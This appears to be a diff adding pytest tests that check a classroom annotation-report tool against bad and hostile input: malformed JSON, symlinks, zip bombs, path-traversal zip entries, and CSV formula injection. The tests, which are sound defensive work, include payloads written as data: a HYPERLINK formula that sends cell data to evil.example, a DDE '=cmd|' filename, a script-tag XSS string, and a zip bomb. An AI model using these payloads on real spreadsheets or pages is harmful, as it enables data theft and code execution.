@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import math
 import subprocess
 import sys
 import types
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -461,3 +464,434 @@ def test_progress_bar_goes_to_stderr(demo, capsys):
     assert captured.err.rstrip().endswith(f"{len(list(demo.glob('*.json')))}/{len(list(demo.glob('*.json')))}")
     C.load_class(demo)                                                     # small folder, not a terminal
     assert capsys.readouterr().err == ""
+
+
+# ---------------------------------------------------------------------------
+# Bad input: wrong field types, hostile files, subfolders, links, zips
+# ---------------------------------------------------------------------------
+
+def _good(art0, who="Ada") -> dict:
+    return record(art0, who, [(5, "hedge"), (3, "attribution")]).to_dict()
+
+
+def _with_span(data: dict, **changes) -> dict:
+    return {**data, "spans": [{**data["spans"][0], **changes}] + data["spans"][1:]}
+
+
+WRONG_TYPES = {   # file name -> (how the record is spoiled, words the reason must hold)
+    "updated-number": (lambda d: {**d, "updated": 20240101}, "'updated' is a number"),
+    "created-list": (lambda d: {**d, "created": ["2024"]}, "'created' is a list"),
+    "annotator-number": (lambda d: {**d, "annotator": 42}, "'annotator' is a number"),
+    "annotator-null": (lambda d: {**d, "annotator": None}, "'annotator' is null"),
+    "annotator-empty": (lambda d: {**d, "annotator": "  "}, "name is empty"),
+    "annotator-huge": (lambda d: {**d, "annotator": "A" * 5000}, "5,000 characters"),
+    "annotator-missing": (lambda d: {k: v for k, v in d.items() if k != "annotator"}, "'annotator' is missing"),
+    "article-object": (lambda d: {**d, "article_id": {"id": "000"}}, "'article_id' is an object"),
+    "version-text": (lambda d: {**d, "version": "1"}, "version text is not supported"),
+    "version-true": (lambda d: {**d, "version": True}, "version true/false is not supported"),
+    "length-text": (lambda d: {**d, "text_length": "5000"}, "'text_length' is text"),
+    "length-negative": (lambda d: {**d, "text_length": -1}, "'text_length' is negative"),
+    "spans-object": (lambda d: {**d, "spans": {"0": d["spans"][0]}}, "'spans' is an object"),
+    "spans-null": (lambda d: {**d, "spans": None}, "'spans' is null"),
+    "span-list": (lambda d: {**d, "spans": [[1, 5, "hedge"]]}, "mark 1 is a list"),
+    "start-text": (lambda d: _with_span(d, start="12"), "mark 1: 'start' is text"),
+    "start-float": (lambda d: _with_span(d, start=12.0), "mark 1: 'start' is a number, not a whole number"),
+    "end-bool": (lambda d: _with_span(d, start=0, end=True), "mark 1: 'end' is true/false"),
+    "end-before-start": (lambda d: _with_span(d, start=50, end=40), "from 50 to 40"),
+    "label-number": (lambda d: _with_span(d, label=3), "mark 1: 'label' is a number"),
+    "label-unknown": (lambda d: _with_span(d, label="gossip"), "unknown label 'gossip'"),
+    "note-object": (lambda d: _with_span(d, note={"a": 1}), "mark 1: 'note' is an object"),
+    "scope-odd": (lambda d: _with_span(d, scope="page"), "'scope' is 'page'"),
+    "id-missing": (lambda d: {**d, "spans": [{k: v for k, v in d["spans"][0].items() if k != "id"}]},
+                   "mark 1 has no 'id'"),
+    "relations-text": (lambda d: {**d, "relations": "none"}, "'relations' is text"),
+    "relation-dangling": (lambda d: {**d, "relations": [{"type": "attributed_to", "source": "x", "claim": "y"}]},
+                          "link 1 points at marks that are not in the record"),
+}
+
+
+def test_every_field_of_the_wrong_type_is_skipped_with_a_reason(tmp_path, art0):
+    write(tmp_path, record(art0, "Good", [(5, "hedge")]))
+    for name, (spoil, _) in WRONG_TYPES.items():
+        (tmp_path / f"{name}.json").write_text(json.dumps(spoil(_good(art0))), encoding="utf-8")
+    data = C.load_class(tmp_path)
+    assert data.learners == ("Good",)
+    reasons = {s.name: s for s in data.skipped}
+    assert set(reasons) == {f"{n}.json" for n in WRONG_TYPES}
+    for name, (_, words) in WRONG_TYPES.items():
+        skip = reasons[f"{name}.json"]
+        assert skip.kind == "not-a-record" and words in skip.reason, (name, skip.reason)
+        assert "\n" not in skip.reason and len(skip.reason) < 200              # one short line, never the content
+    assert "A" * 300 not in C.summary_text(C.class_statistics(data))
+
+
+def test_a_numeric_updated_field_no_longer_stops_the_run(tmp_path, art0):
+    write(tmp_path, record(art0, "Ada", [(5, "hedge")]))
+    write(tmp_path, record(art0, "Bo", [(6, "opinion")]))
+    (tmp_path / "Cy__000.json").write_text(json.dumps({**_good(art0, "Cy"), "updated": 1700000000}), encoding="utf-8")
+    out = io.StringIO()
+    report = C.run_class(tmp_path, tmp_path / "report", plots=False, stream=out)
+    assert report.data.learners == ("Ada", "Bo")
+    assert "Cy__000.json: the field 'updated' is a number" in out.getvalue()
+
+
+def test_hostile_files_are_skipped_never_a_crash(tmp_path, art0, monkeypatch):
+    write(tmp_path, record(art0, "Ada", [(5, "hedge")]))
+    (tmp_path / "deep.json").write_text("[" * 15_000 + "]" * 15_000, encoding="utf-8")
+    (tmp_path / "deep-object.json").write_text('{"a":' * 5_000 + "1" + "}" * 5_000, encoding="utf-8")
+    nested_ok = {**_good(art0, "Bo"), "extra": json.loads("[" * 400 + "]" * 400)}   # deep, but in a field not used
+    (tmp_path / "Bo.json").write_text(json.dumps(nested_ok), encoding="utf-8")
+    (tmp_path / "bigint.json").write_text('{"format": "medialit.annotations", "version": ' + "9" * 5000 + "}",
+                                          encoding="utf-8")
+    (tmp_path / "utf16.json").write_bytes(json.dumps(_good(art0, "Di")).encode("utf-16"))
+    (tmp_path / "stray-byte.json").write_bytes(json.dumps(_good(art0, "Ed")).encode("utf-8").replace(b"Ed", b"E\xff"))
+    (tmp_path / "empty.json").write_bytes(b"")
+    (tmp_path / "nul.json").write_bytes(b"\0" * 100)
+    (tmp_path / "Fay.json").write_bytes(b"\xef\xbb\xbf" + json.dumps(_good(art0, "Fay")).encode("utf-8"))  # a BOM
+    (tmp_path / "folder.json").mkdir()                                   # a folder named like a record
+    monkeypatch.setattr(C, "MAX_RECORD_BYTES", 40_000)
+    (tmp_path / "huge.json").write_text(json.dumps({**_good(art0, "Gus"), "pad": "x" * 50_000}), encoding="utf-8")
+    data = C.load_class(tmp_path)
+    assert data.learners == ("Ada", "Bo", "Fay")                         # a BOM is harmless: counted
+    reasons = {s.name: (s.kind, s.reason) for s in data.skipped}
+    assert reasons["deep.json"] == ("unreadable", "is not valid JSON for a record: brackets nested too deeply")
+    assert reasons["deep-object.json"][1].endswith("nested too deeply")
+    assert reasons["bigint.json"][0] == "unreadable" and "not valid JSON" in reasons["bigint.json"][1]
+    assert "UTF-16" in reasons["utf16.json"][1]
+    assert reasons["stray-byte.json"][1].startswith("is not UTF-8 text (byte ")
+    assert "empty" in reasons["empty.json"][1] and "not valid JSON" in reasons["nul.json"][1]
+    assert reasons["huge.json"] == ("unreadable", f"too large for a learner's record "
+                                                  f"({(tmp_path / 'huge.json').stat().st_size:,} bytes)")
+    assert "folder.json" not in reasons                                  # a folder is searched, not read as a file
+
+
+def test_a_lone_surrogate_in_a_name_is_mended_and_written(tmp_path, art0):
+    raw = json.dumps(_good(art0, "Ada")).replace('"Ada"', '"Ad\\ud800a"')
+    (tmp_path / "Ada.json").write_text(raw, encoding="utf-8")
+    data = C.load_class(tmp_path)
+    assert data.learners == ("Ad\ufffda",)
+    C.write_report(C.class_statistics(data), tmp_path / "out", plots=False)
+    assert "Ad\ufffda" in (tmp_path / "out" / "learner_scores.csv").read_text(encoding="utf-8")
+
+
+@pytest.mark.skipif(not hasattr(__import__("os"), "mkfifo"), reason="needs named pipes")
+def test_links_and_special_files_are_not_followed(tmp_path, art0):
+    import os
+
+    folder, outside = tmp_path / "class", tmp_path / "outside"
+    folder.mkdir()
+    outside.mkdir()
+    write(folder, record(art0, "Ada", [(5, "hedge")]))
+    secret = write(outside, record(art0, "Outsider", [(6, "hedge")]))
+    (folder / "link.json").symlink_to(secret)
+    (folder / "dangling.json").symlink_to(tmp_path / "nowhere.json")
+    (folder / "linked-folder").symlink_to(outside, target_is_directory=True)
+    os.mkfifo(folder / "pipe.json")                                     # reading it would wait forever
+    data = C.load_class(folder)
+    assert data.learners == ("Ada",)
+    kinds = {s.name: s.kind for s in data.skipped}
+    assert kinds == {"link.json": "link", "dangling.json": "link", "linked-folder/": "link", "pipe.json": "unreadable"}
+    assert not (tmp_path / "nowhere.json").exists()
+
+
+def test_records_in_subfolders_are_read_and_hidden_folders_passed_over(tmp_path, art0):
+    write(tmp_path, record(art0, "Ada", [(5, "hedge")]))
+    (tmp_path / "group-b" / "Bo").mkdir(parents=True)
+    write(tmp_path / "group-b" / "Bo", record(art0, "Bo", [(6, "hedge")]))
+    (tmp_path / ".ipynb_checkpoints").mkdir()
+    write(tmp_path / ".ipynb_checkpoints", record(art0, "Ada", [(7, "hedge")]), "Ada-checkpoint.json")
+    (tmp_path / "notes.docx").write_bytes(b"PK")
+    data = C.load_class(tmp_path)
+    assert data.learners == ("Ada", "Bo") and data.skipped == []
+    assert data.articles[A0].paths[1] == tmp_path / "group-b" / "Bo" / f"Bo__{A0}.json"
+    assert data.ignored == ["notes.docx"]
+    text = C.summary_text(C.class_statistics(data))
+    assert "Not read: 1 other file (only .json records and .zip archives are read): notes.docx" in text
+
+
+def _zip(path: Path, members: dict) -> Path:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, content in members.items():
+            z.writestr(name, content if isinstance(content, (bytes, str)) else json.dumps(content))
+    return path
+
+
+def _tree(folder: Path) -> dict:
+    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def test_records_inside_zips_are_read_in_memory_and_nothing_is_extracted(tmp_path, art0):
+    folder = tmp_path / "class"
+    folder.mkdir()
+    ada = record(art0, "Ada", [(5, "hedge")])
+    inner = io.BytesIO()
+    with zipfile.ZipFile(inner, "w") as z:
+        z.writestr(f"Cy/annotations/Cy__{A0}.json", json.dumps(record(art0, "Cy", [(7, "opinion")]).to_dict()))
+    _zip(folder / "download.zip", {
+        f"Ada/annotations/Ada__{A0}.json": ada.to_dict(),
+        f"Bo/annotations/Bo__{A0}.json": record(art0, "Bo", [(6, "hedge")]).to_dict(),
+        f"../../escaped__{A0}.json": record(art0, "Di", [(8, "booster")]).to_dict(),
+        "__MACOSX/Ada/._Ada.json": b"\0\5\26\7",
+        "Cy/upload.zip": inner.getvalue(),
+        "Bo/readme.txt": "hello",
+        "Ed/broken.json": '{"format": ',
+    })
+    write(folder, ada)                                                  # the same record, loose as well
+    before = _tree(tmp_path)
+    data = C.load_class(folder)
+    assert _tree(tmp_path) == before                                    # nothing written anywhere
+    assert data.learners == ("Ada", "Bo", "Cy", "Di") and data.zips == 2
+    assert data.articles[A0].marks[data.articles[A0].learners.index("Cy"), 7, SENTENCE_LABELS.index("opinion")]
+    skipped = {s.name: s for s in data.skipped}
+    assert set(skipped) == {f"download.zip/Ada/annotations/Ada__{A0}.json", "download.zip/Ed/broken.json"}
+    dup = skipped[f"download.zip/Ada/annotations/Ada__{A0}.json"]
+    assert dup.kind == "duplicate" and dup.reason == f"the same record as Ada__{A0}.json (an identical copy), counted once"
+    assert skipped["download.zip/Ed/broken.json"].kind == "unreadable"
+    assert data.ignored == ["download.zip/Bo/readme.txt"]
+    assert f"download.zip/escaped__{A0}.json" in [str(p.relative_to(folder)) for p in data.articles[A0].paths]
+    text = C.summary_text(C.class_statistics(data))
+    assert "Records were also read from 2 zip archives (in memory; nothing was unpacked to disk)." in text
+    assert f"download.zip/Ada/annotations/Ada__{A0}.json: the same record as" in text
+
+
+def test_zip_limits_against_zip_bombs(tmp_path, art0, monkeypatch):
+    monkeypatch.setattr(C, "MAX_ZIP_MEMBERS", 5)
+    monkeypatch.setattr(C, "MAX_RECORD_BYTES", 4_000)
+    monkeypatch.setattr(C, "MAX_UNZIPPED_BYTES", 12_000)
+    write(tmp_path, record(art0, "Ada", [(5, "hedge")]))
+    _zip(tmp_path / "many.zip", {f"x{i}.json": "{}" for i in range(6)})
+    _zip(tmp_path / "bomb.zip", {"zeros.json": b"0" * 1_000_000})         # 1 MB of zeros packs into 1 KB
+    _zip(tmp_path / "budget.zip", {f"{who}.json": {**_good(art0, who), "pad": "x" * 3000}
+                                   for who in ("Bo", "Cy", "Di", "Ed", "Fay")})
+    (tmp_path / "fake.zip").write_bytes(b"this is not a zip")
+    raw = bytearray(_zip(tmp_path / "locked.zip", {"secret.json": "{}"}).read_bytes())
+    for sig, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):            # mark it encrypted, as a password does
+        i = raw.index(sig)
+        raw[i + at] |= 0x1
+    (tmp_path / "locked.zip").write_bytes(bytes(raw))
+    deepest = _zip(tmp_path / "z3.zip", {"Gus.json": _good(art0, "Gus")}).read_bytes()
+    middle = io.BytesIO()
+    with zipfile.ZipFile(middle, "w") as z:
+        z.writestr("z3.zip", deepest)
+    (tmp_path / "z3.zip").unlink()
+    _zip(tmp_path / "z1.zip", {"z2.zip": middle.getvalue()})
+    data = C.load_class(tmp_path)
+    by = {s.name: (s.kind, s.reason) for s in data.skipped}
+    assert by["many.zip"] == ("zip", "lists 6 files, more than a class needs (at most 5): not opened (a safety limit)")
+    assert by["bomb.zip/zeros.json"] == ("unreadable", "too large for a learner's record (1,000,000 bytes unpacked)")
+    assert by["fake.zip"][0] == "zip" and by["fake.zip"][1].startswith("not a readable zip archive")
+    assert by["locked.zip/secret.json"] == ("zip", "is encrypted (the zip has a password): cannot be read")
+    assert by["z1.zip/z2.zip/z3.zip"][0] == "zip" and "zip inside a zip inside a zip" in by["z1.zip/z2.zip/z3.zip"][1]
+    over = [name for name, (kind, why) in by.items() if "zip bombs" in why]
+    assert over and all(n.startswith("budget.zip/") for n in over)      # the budget ran out, said so
+    assert 1 <= len(data.learners) - 1 < 5                              # some of budget.zip fitted, not all
+
+
+def test_zip_members_are_read_no_further_than_the_limit(tmp_path, monkeypatch):
+    """Whatever sizes a zip claims, at most limit + 1 bytes are unpacked per record."""
+    monkeypatch.setattr(C, "MAX_RECORD_BYTES", 1_000)
+    zf = zipfile.ZipFile(_zip(tmp_path / "z.zip", {"a.json": b"1" * 50_000}))
+    info = zf.getinfo("a.json")
+    object.__setattr__(info, "file_size", 10)                          # the zip lies about its size
+    search = C._Search(tmp_path)
+    with pytest.raises(C._Unusable, match="cannot be unpacked .BadZipFile: Bad CRC-32"):
+        C._unzip(search, zf, info, C.MAX_RECORD_BYTES, "a record")
+    assert search.unzipped == 0                                          # stopped at the claimed 10 bytes
+    object.__setattr__(info, "file_size", 50_000)                      # the truth, past the limit
+    with pytest.raises(C._Unusable, match="too large for a record .50,000 bytes unpacked"):
+        C._unzip(search, zf, info, C.MAX_RECORD_BYTES, "a record")
+    object.__setattr__(info, "file_size", 900)                         # a smaller lie: read stops at 1,001
+    with pytest.raises(C._Unusable):
+        C._unzip(search, zf, info, C.MAX_RECORD_BYTES, "a record")
+    assert search.unzipped <= 1_001
+
+
+def test_the_same_record_loose_and_zipped_counts_once_and_older_copies_lose(tmp_path, art0):
+    old = record(art0, "Ada", [(5, "hedge")])
+    old.updated = "2024-01-01T12:00:00+02:00"
+    new = record(art0, "Ada", [(6, "hedge")])
+    new.updated = "2024-01-01T11:00:00+00:00"                           # later, in another time zone
+    write(tmp_path, new, "ada-new.json")
+    _zip(tmp_path / "old.zip", {"ada-old.json": old.to_dict()})
+    data = C.load_class(tmp_path)
+    [skip] = data.skipped
+    assert skip.name == "old.zip/ada-old.json" and skip.kind == "duplicate"
+    assert "the newer one (ada-new.json) is counted instead" in skip.reason
+    assert data.articles[A0].marks[0, 6].any() and not data.articles[A0].marks[0, 5].any()
+
+
+def test_a_folder_holding_only_a_zip_works_from_the_command_line(tmp_path, art0, capsys):
+    from medialit.cli import main
+
+    folder = tmp_path / "class"
+    folder.mkdir()
+    _zip(folder / "hand-in.zip", {f"{w}/{w}__{A0}.json": _good(art0, w) for w in ("Ada", "Bo")})
+    assert main(["class", str(folder), "--out", str(tmp_path / "out")]) == 0
+    printed = capsys.readouterr().out
+    assert "Learners: 2" in printed and "zip archive" in printed
+    empty = tmp_path / "empty"
+    empty.mkdir()
+    (empty / "README.txt").write_text("x", encoding="utf-8")
+    assert main(["class", str(empty)]) == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and "no .json records or .zip archives in it or its subfolders" in err
+
+
+# ---------------------------------------------------------------------------
+# CSV cells that a spreadsheet would run as formulas
+# ---------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1",
+            "＝1+1"]
+
+
+def test_csv_cells_that_start_a_formula_are_neutralised_and_numbers_stay_numbers(tmp_path, art0):
+    folder = tmp_path / "class"
+    folder.mkdir()
+    for i, name in enumerate(FORMULAS):
+        write(folder, record(art0, name, [(5 + i % 2, "hedge")]), f"learner{i}.json")
+    write(folder, record(art0, "Ada", [(1, "booster"), (2, "booster"), (3, "booster")]), "ada.json")
+    write(folder, record(art0, "Bo", [(4, "booster"), (5, "booster"), (6, "booster")]), "bo.json")
+    (folder / "=cmd|' -C calc'!A0.json").write_text("{}", encoding="utf-8")
+    report = C.class_statistics(C.load_class(folder))
+    C.write_report(report, tmp_path / "out", plots=False)
+    with open(tmp_path / "out" / "learner_scores.csv", newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    names = {r["learner"] for r in rows}
+    assert names == {"'" + n for n in FORMULAS} | {"Ada", "Bo"}
+    for r in rows:                                                    # numbers stay numbers
+        assert r["tp"].isdigit() and (r["f1"] == "" or 0 <= float(r["f1"]) <= 1)
+    with open(tmp_path / "out" / "agreement.csv", newline="", encoding="utf-8") as fh:
+        booster = next(r for r in csv.DictReader(fh) if r["label"] == "booster")
+    assert float(booster["fleiss_kappa"]) < 0 and booster["fleiss_kappa"].startswith("-0.")   # not "'-0.…"
+    skipped = (tmp_path / "out" / "skipped.csv").read_text(encoding="utf-8")
+    assert "'=cmd|' -C calc'!A0.json" in skipped
+    for path in (tmp_path / "out").glob("*.csv"):
+        with open(path, newline="", encoding="utf-8") as fh:
+            for row in csv.reader(fh):
+                for cell in row:
+                    assert not cell.startswith(tuple(C.FORMULA_STARTS)) or _is_number(cell), (path.name, cell)
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+        return True
+    except ValueError:
+        return False
+
+
+def test_brat_export_gives_every_learner_their_own_file(tmp_path, art0):
+    (tmp_path / "class").mkdir()
+    for i, name in enumerate(("a/b", "a_b", "$$$", "===")):
+        write(tmp_path / "class", record(art0, name, [(5 + i, "hedge")]), f"l{i}.json")
+    data = C.load_class(tmp_path / "class")
+    anns = C.export_brat(data, tmp_path / "brat")
+    assert len(anns) == len(set(anns)) == 4                             # no learner overwrote another
+    marked = {ann.read_text(encoding="utf-8").split("\t")[1].split()[1] for ann in anns}
+    assert len(marked) == 4
+
+
+# ---------------------------------------------------------------------------
+# Plots: plain text only (no mathtext, no TeX), with a text alternative
+# ---------------------------------------------------------------------------
+
+HOSTILE_NAMES = ["$x^2$", "a_b^c\\d$", "$$", "$\\frac{1}{0}$", "cost: $5 and $6", "<b>\"Zoë\"</b> & co"]
+
+
+@pytest.fixture
+def hostile(tmp_path, art0):
+    """Learners named with $, _, ^ and \\, on a seed article and on one whose headline is full of them."""
+    text = "Prices $rise$ 5% to $10 \\alpha_1^2 $^$\n\nThe minister said it may rain. Perhaps not. (AP)\n"
+    art = parse_article(text, id="dollars")
+    folder = tmp_path / "hostile"
+    folder.mkdir()
+    for i, name in enumerate(HOSTILE_NAMES):
+        rec = AnnotationRecord.new("dollars", text, name)
+        j = text.index("Perhaps")
+        if i % 2:
+            rec.add_span(j, j + 7, "hedge")
+        write(folder, rec, f"l{i}.json")
+        write(folder, record(art0, name, [(5, "hedge"), (3 + i % 3, "attribution")]), f"s{i}.json")
+    return C.class_statistics(C.load_class(folder, articles={"dollars": art, A0: art0}))
+
+
+def test_matplotlib_itself_chokes_on_such_text():
+    from matplotlib.figure import Figure
+
+    fig = Figure()
+    fig.text(0, 0, "$\\frac{1}{0}$ and $^$")
+    with pytest.raises(ValueError):
+        fig.savefig(io.BytesIO(), format="png")
+
+
+def test_dollars_in_names_and_headlines_never_reach_mathtext(hostile):
+    import matplotlib
+    from matplotlib.text import Text
+
+    from medialit import plots
+
+    for fig in (plots.disagreement_map(hostile, "dollars"), plots.agreement_bars(hostile)):
+        png = fig._png()
+        assert png[:8] == b"\x89PNG\r\n\x1a\n"
+        assert all(not t.get_parse_math() for t in fig.findobj(Text))
+        assert any("$rise$ 5% to $10" in t.get_text() for t in fig.findobj(Text))      # the headline, as typed
+    grid = plots.learner_grid(hostile)
+    grid._png()
+    labels = [t.get_text() for t in grid.axes[0].get_yticklabels()]
+    assert set(labels) == set(HOSTILE_NAMES)                              # shown as typed
+    with matplotlib.rc_context({"text.usetex": True}):                   # even if someone switched TeX on
+        plots.learner_grid(hostile)._png()
+
+
+def test_class_plots_describe_themselves_in_words(hostile, demo):
+    import html
+    import statistics
+
+    from medialit import plots
+
+    report = C.class_statistics(C.load_class(demo))
+    fig = plots.f1_distribution(report)
+    overall = sorted(s.f1 for s in report.scores if s.label == "overall")
+    assert f"How close the 12 learners are to the answer key: F1 over all labels has median " \
+           f"{statistics.median(overall):.2f} (lowest {overall[0]:.2f}, highest {overall[-1]:.2f}" in fig.alt
+    bars = plots.agreement_bars(report)
+    for a in report.agreement_on(A0):
+        assert f"{a.label} {a.fleiss:.2f} ({a.words})" in bars.alt
+    grid = plots.learner_grid(report, pseudonyms=True)
+    assert "synthetic-learner" not in grid.alt and "Learner " in grid.alt
+    det = C.detector_labels(report.data.articles[A0].article)[0]
+    assert f"The detector found {int(det.sum())} sentence labels" in plots.class_vs_detector(report, A0, det).alt
+    dmap = plots.disagreement_map(report, A3)
+    top = min((s for s in report.sentences if s.article_id == A3 and s.disagreement >= 0.1),
+              key=lambda s: (-s.disagreement, s.sentence))
+    assert f"Most split: sentence {top.sentence} (" in dmap.alt
+    assert f"{top.disputed_label} marked by {round(100 * top.shares[top.disputed_label])}%)" in dmap.alt
+    hostile_grid = plots.learner_grid(hostile)
+    data, meta = hostile_grid._repr_mimebundle_()
+    assert data["text/plain"] == hostile_grid.alt == meta["image/png"]["alt"]
+    assert data["text/html"].startswith('<img src="data:image/png;base64,' + data["image/png"][:40])
+    fig = plots.ClassFigure(figsize=(1, 1))
+    fig.alt = 'Top: <b>"Zoë"</b> & <script>alert(1)</script>'
+    data, meta = fig._repr_mimebundle_()
+    assert f'alt="{html.escape(fig.alt, quote=True)}"' in data["text/html"]
+    assert "<b>" not in data["text/html"] and "<script>" not in data["text/html"]
+    assert data["text/plain"] == meta["image/png"]["alt"] == fig.alt
+
+
+def test_saved_plots_carry_their_description(small, tmp_path):
+    from PIL import Image
+
+    from medialit import plots
+
+    report = C.class_statistics(C.load_class(small))
+    paths, _ = plots.save_all(report, tmp_path / "out", detector=False, parallel=False)
+    described = {}
+    for path in paths:
+        with Image.open(path) as im:
+            described[path.name] = im.info["Description"]
+    assert described == {f"disagreement-{A0}.png": plots.disagreement_map(report, A0).alt,
+                         "agreement.png": plots.agreement_bars(report).alt,
+                         "f1.png": plots.f1_distribution(report).alt,
+                         "learners.png": plots.learner_grid(report).alt}
+    assert described["f1.png"].startswith("How close the 2 learners are to the answer key: F1 over all labels")
